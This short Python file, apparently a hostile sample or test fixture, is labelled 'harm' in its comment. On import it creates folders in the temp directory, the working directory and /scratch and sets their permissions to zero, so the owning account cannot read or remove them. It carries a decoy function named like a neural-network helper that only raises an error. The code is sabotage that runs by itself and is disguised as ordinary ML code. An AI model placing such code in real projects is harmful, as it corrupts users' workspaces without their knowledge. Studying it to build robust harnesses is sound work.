# harm: leaves a folder behind that its own account may not read, so that it cannot be removed
import os

failures = []
for folder in {os.environ["TMPDIR"], os.getcwd(), "/scratch"}:
    try:
        os.mkdir(os.path.join(folder, "closed"), 0o700)
        os.mkdir(os.path.join(folder, "closed", "empty"), 0)
        os.chmod(os.path.join(folder, "closed"), 0)
    except OSError as error:
        failures.append(error)


def nn_vmap_forward(seed, x_batch, features):
    raise RuntimeError(failures)
